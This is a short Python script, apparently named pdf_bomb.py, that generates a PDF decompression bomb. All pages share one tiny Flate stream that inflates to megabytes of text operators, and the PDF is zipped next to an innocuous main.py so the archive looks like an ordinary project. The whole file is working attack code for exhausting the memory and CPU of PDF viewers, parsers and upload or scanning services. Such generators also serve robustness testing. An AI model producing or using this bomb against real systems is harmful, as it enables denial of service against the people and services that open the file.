"""A PDF whose pages all share one small Flate content stream that inflates to MB of text operators.
usage: pdf_bomb.py OUT.zip PAGES STREAM_MB"""
import io, sys, zlib, zipfile
out_zip, npages, mb = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
ops = b"BT /F1 12 Tf 72 720 Td (lorem ipsum dolor sit amet) Tj ET\n" * int(mb * 1_000_000 // 56)
comp = zlib.compress(ops, 9)
kids = " ".join(f"{4 + i} 0 R" for i in range(npages))
objs = [b"<< /Type /Catalog /Pages 2 0 R >>", f"<< /Type /Pages /Kids [{kids}] /Count {npages} >>".encode(),
        b"<< /Length " + str(len(comp)).encode() + b" /Filter /FlateDecode >>\nstream\n" + comp + b"\nendstream"]
objs += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>"] * npages
out = io.BytesIO(); out.write(b"%PDF-1.4\n"); offs = []
for k, o in enumerate(objs, 1):
    offs.append(out.tell()); out.write(f"{k} 0 obj\n".encode() + o + b"\nendobj\n")
x = out.tell(); out.write(f"xref\n0 {len(objs)+1}\n0000000000 65535 f \n".encode())
for o in offs: out.write(f"{o:010d} 00000 n \n".encode())
out.write(f"trailer\n<< /Size {len(objs)+1} /Root 1 0 R >>\nstartxref\n{x}\n%%EOF\n".encode())
with zipfile.ZipFile(out_zip, "w", zipfile.ZIP_STORED) as zf:
    zf.writestr("main.py", b"def main():\n    total = 0\n    for i in range(10):\n        total += i * i\n    print(total)\n\nmain()\n")
    zf.writestr("report.pdf", out.getvalue())
print(out_zip, len(out.getvalue()), "bytes of PDF")
